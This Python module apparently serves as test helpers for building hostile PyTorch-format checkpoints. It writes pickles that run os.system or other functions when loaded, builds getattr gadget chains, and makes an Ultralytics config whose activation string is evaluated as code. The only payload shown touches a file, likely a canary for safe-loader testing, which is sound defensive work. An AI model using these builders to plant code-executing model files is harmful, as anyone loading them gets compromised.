"""Checkpoints that want to do harm, made without torch."""

import io
import os
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path

PROTOCOL = 2  # what torch.save writes, and the only one that its safe reader takes


def checkpoint(data_pkl: bytes) -> bytes:
    """A file in the form of torch.save."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", data_pkl)
        archive.writestr("archive/byteorder", b"little")
        archive.writestr("archive/version", b"3\n")
    return file.getvalue()


def calling(function: Callable[..., object], *arguments: object) -> bytes:
    """A pickle that calls a function when it is read."""
    return pickle.dumps({"model": _Call(function, arguments)}, protocol=PROTOCOL)


def calling_by_name(module: str, name: str, argument: object) -> bytes:
    """The same for what is not installed here."""
    inner = pickle.dumps(argument, protocol=PROTOCOL)[2:-1]
    return b"\x80\x02" + f"c{module}\n{name}\n".encode() + inner + b"\x85R."


def getting(module: str, name: str, attribute: str) -> bytes:
    """A pickle that asks for an attribute of something."""
    text = pickle.dumps(attribute, protocol=PROTOCOL)[2:-1]
    return b"\x80\x02c__builtin__\ngetattr\n" + f"c{module}\n{name}\n".encode() + text + b"\x86R."


def running(command: str) -> bytes:
    return calling(os.system, command)


def in_a_layer(text: str) -> dict[str, object]:
    """A configuration whose activation Ultralytics evaluates when it builds the model from it."""
    return {"nc": 1, "activation": text, "backbone": [[-1, 1, "Conv", [8, 3, 2]]], "head": [], "ch": 3}


def touching(path: Path) -> str:
    return f"__import__('pathlib').Path({str(path)!r}).touch()"


class _Call:
    def __init__(self, function: Callable[..., object], arguments: tuple[object, ...]) -> None:
        self._reduced = (function, arguments)

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return self._reduced
